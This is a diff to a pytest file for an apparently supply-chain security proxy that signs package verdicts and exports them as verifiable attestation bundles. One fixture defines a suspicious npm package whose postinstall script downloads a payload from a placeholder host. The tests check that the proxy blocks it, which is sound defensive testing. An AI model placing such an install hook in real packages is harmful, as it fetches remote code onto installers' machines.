@@ -11,11 +11,14 @@ from securesystemslib.dsse import Envelope
 from securesystemslib.exceptions import VerificationError
 from securesystemslib.signer import SSlibKey
 
-from support.packages import malicious_record, npm_package, osv_bundle
+from support.packages import npm_package
 
 ORIGIN = "peer.example/verdicts"
 KEY_EVENT = "urn:jurat:attestation:key-event:v1"
 RECEIPT = "urn:jurat:attestation:import-receipt:v1"
+SUSPICIOUS = dict(
+    scripts={"postinstall": "curl -sSf https://cdn.example.invalid/payload.bin -o payload.bin"},
+)
 
 
 def statement(line: dict) -> dict:
@@ -42,8 +45,9 @@ def root_from_proof(index: int, size: int, leaf: bytes, path: list[bytes]) -> by
 
 
 def verifier_key(origin: str, public: bytes) -> str:
-    short = hashlib.sha256(origin.encode() + b"\n\x01" + public).digest()[:4]
-    return f"{origin}+{short.hex()}+{base64.b64encode(b'\x01' + public).decode()}"
+    typed = b"\x01" + public
+    short = hashlib.sha256(origin.encode() + b"\n" + typed).digest()[:4]
+    return f"{origin}+{short.hex()}+{base64.b64encode(typed).decode()}"
 
 
 class Bundle:
@@ -76,19 +80,16 @@ class Bundle:
 
 
 @pytest.fixture
-def peer(deploy, npm_upstream, tmp_path):
-    """A deployment whose log says that one package is malicious and another is not."""
-    bad, good = npm_package("bundle-bad", "1.0.0"), npm_package("bundle-good", "1.0.0")
-    records = tmp_path / "records.zip"
-    records.write_bytes(osv_bundle([malicious_record("MAL-2099-0007", "npm", "bundle-bad", ["1.0.0"])]))
+def peer(deploy, npm_upstream):
+    """A deployment whose log says that one package is suspicious and another is clean."""
+    bad, good = npm_package("bundle-bad", "1.0.0", **SUSPICIOUS), npm_package("bundle-good", "1.0.0")
     npm = npm_upstream([bad, good])
     server = deploy("peer", npm=npm.url)
     server.run("init", "--origin", ORIGIN)
-    server.run("advisories", "import", f"npm={records}")
     server.start()
-    for package in (bad, good):
-        server.get(f"/{package.name}/-/{package.filename}", {"User-Agent": "npm/10.8.2 node/v20"})
-    assert server.statements()
+    for package, status in ((bad, 403), (good, 200)):
+        target = f"/{package.name}/-/{package.filename}"
+        assert server.get(target, {"User-Agent": "npm/10.8.2 node/v20"}).status == status
     server.npm_url = npm.url
     return server
 
@@ -122,13 +123,13 @@ def test_every_line_is_a_standard_envelope_in_the_log_that_the_checkpoint_names(
 
 
 def test_a_selection_holds_what_it_names_and_the_keys_to_judge_it(peer):
-    peer.run("bundle", "export", "--verdict", "malicious", "--output", "bad.intoto.jsonl")
+    peer.run("bundle", "export", "--verdict", "suspicious", "--output", "bad.intoto.jsonl")
     bundle = Bundle((peer.folder / "bad.intoto.jsonl").read_bytes())
     said = [statement(line) for line in bundle.envelopes]
     verdicts = [one for one in said if one["predicateType"].endswith("verdict:v1")]
-    assert verdicts and all(one["predicate"]["verdict"] == "malicious" for one in verdicts)
+    assert verdicts and all(one["predicate"]["verdict"] == "suspicious" for one in verdicts)
     assert len(said) - len(verdicts) == sum(one["predicateType"] == KEY_EVENT for one in said) >= 4
-    assert bundle.header["selection"] == {"verdict": "malicious"}
+    assert bundle.header["selection"] == {"verdict": "suspicious"}
 
 
 def test_verify_needs_no_server_and_names_line_and_reason(peer, deploy):
@@ -136,7 +137,7 @@ def test_verify_needs_no_server_and_names_line_and_reason(peer, deploy):
     path = peer.folder / "all.intoto.jsonl"
     bundle = Bundle(path.read_bytes())
     root = bundle.keys["root"][0]
-    alone = deploy("alone")
+    alone = deploy("alone", npm=peer.npm_url)
     found = alone.run_json("bundle", "verify", str(path), "--key", bundle.vkey, "--root", root)
     assert found["verified"] is True and found["statements"] == bundle.size and found["origin"] == ORIGIN
     shown = alone.run_json("bundle", "inspect", str(path))
